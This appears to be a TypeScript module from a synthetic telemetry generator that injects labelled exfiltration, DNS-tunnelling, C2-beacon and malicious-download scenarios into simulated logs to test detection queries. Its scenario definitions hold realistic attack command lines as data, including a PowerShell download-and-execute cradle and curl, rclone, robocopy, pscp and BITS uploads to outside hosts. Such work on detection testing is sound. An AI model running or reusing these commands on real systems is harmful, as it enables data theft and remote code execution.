// The injected attacks. Each is a named scenario with ATT&CK techniques and parameters; its
// hosts and times are drawn from the run's seed (one stream per scenario, so choosing a
// subset of scenarios does not move the others), and every row it writes is recorded in
// labels.json. Several are deliberately subtle: small volumes, business hours, ordinary
// processes.

import { PROCESSES, type ProcessDef } from './catalog.js';
import type { Enterprise, Host } from './enterprise.js';
import { addressOf } from './geo.js';
import { ScenarioRecorder } from './labels.js';
import { Rng, hashString } from './prng.js';
import { isBusinessHour } from './seasonality.js';
import type { Flow, Telemetry } from './telemetry.js';
import { MS_PER_DAY, MS_PER_HOUR, MS_PER_MINUTE, startOfDayMs } from './time.js';

/** Something a scenario does at one instant; run when the generator reaches that hour. */
export interface Action {
  at: number;
  run: (tel: Telemetry) => void;
}

export interface PlanContext {
  ent: Enterprise;
  rng: Rng;
  startMs: number;
  endMs: number;
  scale: number;
  /** Site-wide volume factor (hosts / 500). */
  hostScale: number;
}

export interface ScenarioDef {
  name: string;
  description: string;
  techniques: string[];
  subtle: boolean;
  seedQueries: string[];
  plan(ctx: PlanContext, rec: ScenarioRecorder): Action[];
}

const GB = 1024 ** 3;
const MB = 1024 ** 2;

function hqWorkstation(ctx: PlanContext): Host {
  const hq = ctx.ent.workstations.filter((h) => h.site.name === 'HQ');
  return ctx.rng.pick(hq.length > 0 ? hq : ctx.ent.workstations);
}

/** A business hour (weekday 08-18 UTC) starting in [from, to), or the start of the range if it has none. */
function businessHourIn(rng: Rng, from: number, to: number): number {
  const hours: number[] = [];
  for (let h = Math.ceil(from / MS_PER_HOUR) * MS_PER_HOUR; h < to; h += MS_PER_HOUR) if (isBusinessHour(h)) hours.push(h);
  return hours.length > 0 ? rng.pick(hours) : Math.ceil(from / MS_PER_HOUR) * MS_PER_HOUR;
}

function flowAction(rec: ScenarioRecorder, f: Flow): Action {
  return { at: f.start, run: (tel) => tel.flow(f, rec) };
}

function baseFlow(host: Host, process: ProcessDef, start: number, remoteIp: string, port: number, app: string, sent: number, received: number, extra: Partial<Flow> = {}): Flow {
  return {
    start, durationMs: 1_000 + Math.round(sent / (4 * MB)) * 1_000, host, process, account: host.user,
    remoteIp, remotePort: port, transport: 'Tcp', app, sent, received, ...extra,
  };
}

/** Uploads of `total` bytes split into `count` connections spread over [start, start+span). */
function uploads(ctx: PlanContext, rec: ScenarioRecorder, count: number, start: number, span: number, total: number,
  make: (at: number, bytes: number) => Flow): Action[] {
  const weights = Array.from({ length: count }, () => 0.5 + ctx.rng.next());
  const sum = weights.reduce((a, b) => a + b, 0);
  const times = Array.from({ length: count }, () => start + ctx.rng.int(span)).sort((a, b) => a - b);
  return times.map((at, i) => flowAction(rec, make(at, Math.round((total * weights[i]!) / sum))));
}

export const SCENARIOS: readonly ScenarioDef[] = [
  {
    name: 'burst-upload-new-ip',
    description: 'One hour of large uploads from a workstation to a public IP it never used before, inside the last 2 days before --end and before the start of the last day (the window seed 000 examines).',
    techniques: ['T1030', 'T1048'],
    subtle: false,
    seedQueries: ['000-timeseries-anomaly-public-transfer'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      // Seed 000 looks at hourly bins b with b > now-2d and b < startofday(now-1d).
      const lo = Math.floor((ctx.endMs - 2 * MS_PER_DAY) / MS_PER_HOUR) * MS_PER_HOUR + MS_PER_HOUR;
      const hi = startOfDayMs(ctx.endMs - MS_PER_DAY) - MS_PER_HOUR;
      const hour = hi >= lo ? lo + ctx.rng.int((hi - lo) / MS_PER_HOUR + 1) * MS_PER_HOUR : Math.max(ctx.startMs, ctx.endMs - 3 * MS_PER_HOUR);
      const ip = addressOf('digitalocean', 7000 + ctx.rng.int(200));
      const total = Math.round((40 * ctx.hostScale * ctx.scale + 8) * GB);
      rec.parameters['hour'] = new Date(hour).toISOString();
      rec.parameters['totalBytes'] = total;
      rec.parameters['seed000Window'] = hi >= lo ? 'yes' : 'no: --end leaves no hour between now-2d and startofday(now-1d)';
      const cmd = 'curl.exe -s -T C:\\Users\\Public\\Documents\\q3-archive.7z https://' + ip + '/upload';
      return uploads(ctx, rec, 60, hour + 2 * MS_PER_MINUTE, 50 * MS_PER_MINUTE, total,
        (at, bytes) => ({ ...baseFlow(host, PROCESSES.curl, at, ip, 443, 'ssl', bytes, 40_000 + ctx.rng.int(20_000)), commandLine: cmd, durationMs: 30_000 }));
    },
  },
  {
    name: 'dns-tunnelling',
    description: 'A PowerShell DNS tunnel: thousands of TXT queries with long high-entropy labels under one domain over a few hours.',
    techniques: ['T1048.003', 'T1071.004'],
    subtle: false,
    seedQueries: ['001-02-monitor-for-dns-based-exfiltration'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const start = businessHourIn(ctx.rng, ctx.startMs + MS_PER_DAY, ctx.endMs - MS_PER_DAY);
      const domain = 'cdn-sync-telemetry.net';
      const count = 1500;
      const cmd = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${addressOf('md-hosting', 40)}/d.ps1'); Invoke-DNSExfiltrator -d ${domain}"`;
      rec.parameters['domain'] = domain;
      rec.parameters['queries'] = count;
      rec.entities.domains.add(domain);
      rec.entities.hosts.add(host.computer);
      rec.entities.processes.add('powershell.exe');
      if (host.user.upn) rec.entities.accounts.add(host.user.upn);
      const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
      const actions: Action[] = [];
      for (let i = 0; i < count; i++) {
        let label = '';
        for (let k = 0; k < 52; k++) label += alphabet[ctx.rng.int(32)];
        const name = `${label}.${i.toString(16)}.t.${domain}`;
        const at = start + Math.floor((i * 3 * MS_PER_HOUR) / count) + ctx.rng.int(2000);
        actions.push({ at, run: (tel) => tel.dnsQuery(host, at, name, [], rec, { queryType: 'TXT', process: PROCESSES.powershell, commandLine: cmd, account: host.user }) });
      }
      return actions;
    },
  },
  {
    name: 'http-post-exfiltration',
    description: 'Small HTTP POSTs of staged data to a bare IP address during business hours (subtle).',
    techniques: ['T1048.003', 'T1041'],
    subtle: true,
    seedQueries: ['001-03-detect-http-post-requests-used-for-exfiltration'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const start = businessHourIn(ctx.rng, ctx.startMs + MS_PER_DAY, ctx.endMs - MS_PER_DAY);
      const ip = addressOf('hetzner', 4100 + ctx.rng.int(100));
      const url = `http://${ip}/api/v2/upload.php`;
      rec.parameters['url'] = url;
      const ua = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803';
      return uploads(ctx, rec, 25, start, 2 * MS_PER_HOUR, 120 * MB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.powershell, at, ip, 80, 'web-browsing', bytes, 300),
        commandLine: `powershell.exe -nop -c "Invoke-WebRequest -Uri ${url} -Method POST -InFile $env:TEMP\\p.bin"`,
        http: { method: 'POST', url, userAgent: ua },
      }));
    },
  },
  {
    name: 'cloud-storage-upload',
    description: 'rclone copying a file share to MEGA cloud storage over many connections.',
    techniques: ['T1567.002'],
    subtle: false,
    seedQueries: ['001-04-monitor-for-data-exfiltration-via-cloud-storage', '001-07-detect-use-of-encrypted-channels-for-exfiltration', '001-08-identify-data-exfiltration-via-websocket'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const start = ctx.startMs + MS_PER_DAY + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - 3 * MS_PER_DAY));
      const ips = [addressOf('mega', 20), addressOf('mega', 21)];
      const name = 'g.api.mega.co.nz';
      const cmd = 'rclone.exe copy \\\\fs01\\finance mega:backup --transfers 8 --no-check-certificate -q';
      rec.parameters['destination'] = name;
      return uploads(ctx, rec, 180, start, 2 * MS_PER_HOUR, 6 * GB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.rclone, at, ips[at % 2]!, 443, 'mega', bytes, 20_000), commandLine: cmd, name, resolved: ips,
      }));
    },
  },
  {
    name: 'ftp-exfiltration',
    description: 'Scripted ftp.exe uploads to an external FTP server at night.',
    techniques: ['T1048.003'],
    subtle: false,
    seedQueries: ['001-05-detect-exfiltration-via-ftp'],
    plan(ctx, rec) {
      const host = ctx.rng.pick(ctx.ent.servers.filter((s) => s.role === 'file' || s.role === 'db'));
      const day = startOfDayMs(ctx.startMs + MS_PER_DAY + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - 2 * MS_PER_DAY)));
      const start = Math.min(day + 2 * MS_PER_HOUR, ctx.endMs - 2 * MS_PER_HOUR);
      const ip = addressOf('ovh', 5200 + ctx.rng.int(50));
      return uploads(ctx, rec, 40, start, MS_PER_HOUR, 2 * GB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.ftp, at, ip, 21, 'ftp', bytes, 2_000), account: ctx.ent.serviceAccounts.admin,
      }));
    },
  },
  {
    name: 'smtp-exfiltration',
    description: 'PowerShell Send-MailMessage with archive attachments to an external mail provider on port 587 (subtle: business hours, few MB each).',
    techniques: ['T1048.003', 'T1114'],
    subtle: true,
    seedQueries: ['001-06-monitor-for-email-based-exfiltration'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const start = businessHourIn(ctx.rng, ctx.startMs + MS_PER_DAY, ctx.endMs - MS_PER_DAY);
      const ips = [addressOf('strato', 900), addressOf('strato', 901)];
      const name = 'smtp.mailbox-transfer.de';
      return uploads(ctx, rec, 18, start, 3 * MS_PER_HOUR, 180 * MB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.powershell, at, ips[0]!, 587, 'smtp-base', bytes, 4_000), name, resolved: ips,
        commandLine: `powershell.exe -c "Send-MailMessage -SmtpServer ${name} -Port 587 -UseSsl -To drop@mailbox-transfer.de -Attachments C:\\Users\\Public\\a.zip"`,
      }));
    },
  },
  {
    name: 'ssh-exfiltration',
    description: 'pscp copying an archive to a VPS over SSH (port 22).',
    techniques: ['T1048.002'],
    subtle: false,
    seedQueries: ['001-07-detect-use-of-encrypted-channels-for-exfiltration'],
    plan(ctx, rec) {
      const host = ctx.rng.pick(ctx.ent.byRole.get('app') ?? ctx.ent.servers);
      const start = ctx.startMs + MS_PER_DAY + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - 3 * MS_PER_DAY));
      const ip = addressOf('hetzner', 6100 + ctx.rng.int(100));
      return uploads(ctx, rec, 24, start, 90 * MS_PER_MINUTE, 3 * GB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.pscp, at, ip, 22, 'ssh', bytes, 50_000), account: ctx.ent.serviceAccounts.admin,
        commandLine: `pscp.exe -batch -r -pw ******** D:\\exports root@${ip}:/srv/drop/`,
      }));
    },
  },
  {
    name: 'smb-exfiltration',
    description: 'Robocopy mirroring a share to an external SMB server (port 445 allowed out by a firewall mistake).',
    techniques: ['T1048', 'T1039'],
    subtle: false,
    seedQueries: ['001-09-monitor-for-data-exfiltration-via-network-shares'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const start = ctx.startMs + MS_PER_DAY + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - 3 * MS_PER_DAY));
      const ip = addressOf('scaleway', 3300 + ctx.rng.int(100));
      return uploads(ctx, rec, 45, start, MS_PER_HOUR, 1.5 * GB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.robocopy, at, ip, 445, 'ms-ds-smb', bytes, 30_000),
        commandLine: `robocopy.exe \\\\fs02\\hr \\\\${ip}\\share /MIR /R:0 /W:0 /NP`,
      }));
    },
  },
  {
    name: 'unusual-protocol',
    description: 'A GRE tunnel from a server to an external endpoint (not TCP/UDP).',
    techniques: ['T1095', 'T1048'],
    subtle: false,
    seedQueries: ['001-10-detect-use-of-unknown-protocols-for-exfiltration'],
    plan(ctx, rec) {
      const host = ctx.rng.pick(ctx.ent.byRole.get('app') ?? ctx.ent.servers);
      const start = ctx.startMs + MS_PER_DAY + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - 3 * MS_PER_DAY));
      const ip = addressOf('md-hosting', 300 + ctx.rng.int(50));
      return uploads(ctx, rec, 30, start, 4 * MS_PER_HOUR, 400 * MB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.tunnel, at, ip, 0, 'gre', bytes, 10_000), transport: 'Gre', account: { ...host.user, name: 'system', domain: 'nt authority', sid: 'S-1-5-18', upn: '', firewallUser: '' },
      }));
    },
  },
  {
    name: 'ioc-file-download',
    description: 'A user downloads a malicious executable from a known-bad URL (DeviceFileEvents FileOriginUrl/FileOriginIP), which then runs.',
    techniques: ['T1105', 'T1204.002'],
    subtle: true,
    seedQueries: ['002-network-footprint-file-origin'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const at = businessHourIn(ctx.rng, ctx.startMs + MS_PER_DAY, ctx.endMs - MS_PER_DAY) + ctx.rng.int(50 * MS_PER_MINUTE);
      const ip = addressOf('selectel', 77 + ctx.rng.int(50));
      const domain = 'invoice-portal-secure.com';
      const url = `http://dl.${domain}/files/Invoice_88412.exe`;
      const referrer = `http://${domain}/view?id=88412`;
      const fileRng = new Rng(hashString(url), 'ioc-file');
      const file = { sha1: fileRng.hex(40), sha256: fileRng.hex(64), md5: fileRng.hex(32) };
      rec.parameters['url'] = url;
      rec.parameters['ip'] = ip;
      rec.parameters['sha1'] = file.sha1;
      rec.entities.domains.add(`dl.${domain}`);
      return [
        flowAction(rec, { ...baseFlow(host, PROCESSES.chrome, at, ip, 80, 'web-browsing', 1_200, 1_480_000), name: `dl.${domain}`, resolved: [ip], http: { method: 'GET', url, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36' } }),
        { at: at + 4_000, run: (tel) => tel.fileEvent({ time: at + 4_000, host, process: PROCESSES.chrome, account: host.user, actionType: 'FileCreated', fileName: 'Invoice_88412.exe', folder: `C:\\Users\\${host.user.name}\\Downloads`, size: 1_478_656, ...file, originUrl: url, originIp: ip, referrerUrl: referrer }, rec) },
        { at: at + 60_000, run: (tel) => tel.processEvent({ time: at + 60_000, host, parent: PROCESSES.explorer, process: { ...PROCESSES.updater, name: 'Invoice_88412.exe', folder: `C:\\Users\\${host.user.name}\\Downloads\\Invoice_88412.exe`, ...file }, commandLine: `"C:\\Users\\${host.user.name}\\Downloads\\Invoice_88412.exe"`, account: host.user }, rec) },
      ];
    },
  },
  {
    name: 'rare-domain-transfer',
    description: 'A domain looked up once in the previous week is resolved again in the last day and followed by a sizeable upload to its address (the pattern seed 003 hunts).',
    techniques: ['T1071.001', 'T1048'],
    subtle: true,
    seedQueries: ['003-rare-dns-lookup-with-data-transfer'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const ip = addressOf('vn-isp', 12_000 + ctx.rng.int(500));
      const name = 'sync.filedrop-cdn.info';
      const recon = ctx.endMs - (2 + ctx.rng.int(4)) * MS_PER_DAY - ctx.rng.int(MS_PER_DAY);
      const start = ctx.endMs - MS_PER_DAY + 2 * MS_PER_HOUR + ctx.rng.int(18 * MS_PER_HOUR);
      rec.parameters['domain'] = name;
      const recFlow = { ...baseFlow(host, PROCESSES.chrome, Math.max(ctx.startMs, recon), ip, 443, 'ssl', 1_500, 24_000), name, resolved: [ip] };
      return [
        flowAction(rec, recFlow),
        ...uploads(ctx, rec, 12, start, 40 * MS_PER_MINUTE, 900 * MB, (at, bytes) => ({
          ...baseFlow(host, PROCESSES.powershell, at, ip, 443, 'ssl', bytes, 9_000), name, resolved: [ip],
          commandLine: `powershell.exe -nop -c "iwr https://${name}/u -Method PUT -InFile $env:TEMP\\c.zip"`,
        })),
      ];
    },
  },
  {
    name: 'rare-country-process',
    description: 'Within the last hour before --end, an unusual process on a server connects to a country the enterprise never talks to (the pattern seed 004 hunts).',
    techniques: ['T1071', 'T1041'],
    subtle: true,
    seedQueries: ['004-rare-outbound-connection-by-process'],
    plan(ctx, rec) {
      const host = ctx.rng.pick(ctx.ent.byRole.get('app') ?? ctx.ent.servers);
      const ip = addressOf('kp-star', 10 + ctx.rng.int(200));
      const start = ctx.endMs - 50 * MS_PER_MINUTE;
      rec.parameters['country'] = 'KP';
      return uploads(ctx, rec, 6, start, 40 * MS_PER_MINUTE, 30 * MB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.updater, at, ip, 8443, 'unknown-tcp', bytes, 15_000), account: { name: 'system', domain: 'nt authority', sid: 'S-1-5-18', upn: '', firewallUser: '' },
      }));
    },
  },
  {
    name: 'c2-beacon',
    description: 'rundll32 beaconing every ~60 s with 20% jitter to a command-and-control server for about three days (tiny payloads).',
    techniques: ['T1071.001', 'T1573.002'],
    subtle: true,
    seedQueries: ['001-07-detect-use-of-encrypted-channels-for-exfiltration', '001-08-identify-data-exfiltration-via-websocket'],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const ip = addressOf('selectel', 300 + ctx.rng.int(100));
      const span = Math.min(3 * MS_PER_DAY, ctx.endMs - ctx.startMs - MS_PER_DAY);
      const start = ctx.startMs + ctx.rng.int(Math.max(1, ctx.endMs - ctx.startMs - span));
      const name = 'api.weather-feeds.org';
      rec.parameters['intervalSeconds'] = 60;
      rec.parameters['jitter'] = 0.2;
      const actions: Action[] = [];
      for (let t = start; t < start + span; t += Math.round(60_000 * (0.8 + 0.4 * ctx.rng.next()))) {
        actions.push(flowAction(rec, {
          ...baseFlow(host, PROCESSES.rundll32, t, ip, 443, 'ssl', 400 + ctx.rng.int(300), 300 + ctx.rng.int(2_000)), name, resolved: [ip], durationMs: 300 + ctx.rng.int(500),
          malicious: { indicator: 'Botnet', description: 'Command and control server' },
        }));
      }
      return actions;
    },
  },
  {
    name: 'low-and-slow',
    description: 'BITS uploads of a few MB every ~10 minutes during business hours for five days to one hosting address (subtle).',
    techniques: ['T1030', 'T1197', 'T1048'],
    subtle: true,
    seedQueries: [],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const ip = addressOf('digitalocean', 9100 + ctx.rng.int(100));
      const days = Math.min(5, Math.max(1, Math.floor((ctx.endMs - ctx.startMs) / MS_PER_DAY) - 1));
      const first = startOfDayMs(ctx.endMs - (days + 1) * MS_PER_DAY);
      const actions: Action[] = [];
      for (let t = Math.max(first, ctx.startMs); t < ctx.endMs; t += Math.round(10 * MS_PER_MINUTE * (0.7 + 0.6 * ctx.rng.next()))) {
        if (!isBusinessHour(t)) continue;
        actions.push(flowAction(rec, {
          ...baseFlow(host, PROCESSES.bitsadmin, t, ip, 443, 'ssl', Math.round(ctx.rng.lognormal(3 * MB, 0.3)), 2_000),
          commandLine: `bitsadmin.exe /transfer sync /upload /priority low https://${ip}/s C:\\ProgramData\\s.dat`,
        }));
      }
      rec.parameters['days'] = days;
      return actions;
    },
  },
  {
    name: 'first-seen-destination',
    description: 'A workstation sends about 2 GB to an address nobody in the enterprise contacted before, through the ordinary browser, during business hours.',
    techniques: ['T1567', 'T1048'],
    subtle: true,
    seedQueries: [],
    plan(ctx, rec) {
      const host = hqWorkstation(ctx);
      const ip = addressOf('aws-ap-southeast', 5400 + ctx.rng.int(100));
      const start = businessHourIn(ctx.rng, ctx.startMs + 2 * MS_PER_DAY, ctx.endMs - 2 * MS_PER_DAY);
      const name = 'share.quickxfer.io';
      return uploads(ctx, rec, 40, start, 2 * MS_PER_HOUR, 2 * GB, (at, bytes) => ({
        ...baseFlow(host, PROCESSES.chrome, at, ip, 443, 'ssl', bytes, 60_000), name, resolved: [ip],
      }));
    },
  },
];

export function scenarioNames(): string[] {
  return SCENARIOS.map((s) => s.name);
}

export function newRecorder(def: ScenarioDef): ScenarioRecorder {
  return new ScenarioRecorder(def.name, def.description, def.techniques, def.subtle, def.seedQueries, {});
}
